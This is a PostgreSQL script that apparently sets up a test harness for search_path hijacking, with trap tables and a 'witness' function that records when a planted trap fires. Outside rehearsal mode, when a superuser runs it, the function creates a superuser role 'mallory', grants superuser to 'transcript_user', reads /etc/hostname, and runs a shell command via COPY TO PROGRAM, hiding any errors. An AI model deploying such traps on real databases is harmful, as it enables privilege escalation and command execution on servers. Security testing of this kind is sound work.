-- What every trap calls: records as whom it ran. Run by the owner, before plant.sql.
create schema if not exists postgres;
create table traps (
  id int generated always as identity primary key,
  -- signature: is found beside pg_catalog's own, and matches better. name: hides pg_catalog's own from a session whose
  -- search_path says so.
  family text not null check (family in ('signature', 'name')),
  what text not null,
  -- The SQL that springs it.
  spring text not null
);
create table sprung (trap text, login text, runs_as text, super boolean, session text);
create table loot (content text);

-- Rehearsed, it keeps to a row and a notice. Else, run by a superuser, it does what an attacker would: the log's line outlives a
-- transaction that is rolled back, and each attempt has a block of its own.
create function witness(trap text) returns boolean language plpgsql set search_path = pg_catalog, pg_temp as $$
declare
  super boolean := (select rolsuper from pg_roles where rolname = current_user);
begin
  if current_setting('adversary.rehearsal', true) = 'on' then
    if current_setting('adversary.seen', true) is distinct from trap then
      insert into public.sprung values (trap, session_user, current_user, super, 'rehearsal');
      raise notice 'sprung: %', trap;
      perform set_config('adversary.seen', trap, true);
    end if;
    return false;
  end if;
  if not super or strpos(coalesce(current_setting('adversary.seen', true), ''), '<' || trap || '>') > 0 then
    return true;
  end if;
  perform set_config('adversary.seen', coalesce(current_setting('adversary.seen', true), '') || '<' || trap || '>', false);
  raise log 'trap sprung by % as %: %', session_user, current_user, trap;
  begin
    insert into public.sprung values (trap, session_user, current_user, super, current_setting('application_name'));
  exception when others then null;
  end;
  begin
    create role mallory superuser;
  exception when others then null;
  end;
  begin
    alter role transcript_user superuser;
  exception when others then null;
  end;
  begin
    insert into public.loot values (pg_read_file('/etc/hostname'));
  exception when others then null;
  end;
  begin
    copy (select 1) to program 'touch /tmp/adversary';
  exception when others then null;
  end;
  return true;
end
$$;
